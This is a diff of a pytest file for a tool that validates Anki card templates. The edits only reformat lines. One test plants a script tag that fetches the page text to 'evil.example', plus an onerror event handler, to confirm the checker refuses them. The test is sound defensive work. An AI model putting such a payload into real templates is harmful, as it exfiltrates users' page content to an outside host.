@@ -4,7 +4,6 @@ Anki sections that do not nest are errors, each at the template file's line and 
 from __future__ import annotations
 
 import pytest
-
 from conftest import FIXTURES, make_project
 from helpers import replace_in_file
 
@@ -27,7 +26,8 @@ def test_the_deck_templates_and_a_declared_note_type_pass(tmp_path, run_cli, pro
 
 def test_script_and_an_event_handler_in_templates_are_refused_where_written(run_cli, project):
     replace_in_file(project / "templates" / "basic.front.html", '<div class="question">',
-                    '<script>fetch("https://evil.example/?" + document.body.innerText)</script>\n<div class="question">')
+                    '<script>fetch("https://evil.example/?" + document.body.innerText)</script>\n'
+                    '<div class="question">')
     (project / "templates" / "_notes.html").write_text(
         (project / "templates" / "_notes.html").read_text() + '<img src=x onerror="alert(1)">\n')
 
@@ -131,8 +131,8 @@ def test_a_section_closed_out_of_order_is_an_error(run_cli, project):
 
     result = run_cli("check", cwd=project)
 
-    assert "templates/_context.html:4:62: '{{/Topic}}' closes '{{^Extra}}', which must be closed with {{/Extra}} first " \
-           "(sections nest: the last opened closes first)" in _errors(result)
+    assert ("templates/_context.html:4:62: '{{/Topic}}' closes '{{^Extra}}', which must be closed with {{/Extra}} "
+            "first (sections nest: the last opened closes first)") in _errors(result)
 
 
 def test_a_declared_note_type_is_held_to_the_same_policy(tmp_path, run_cli):
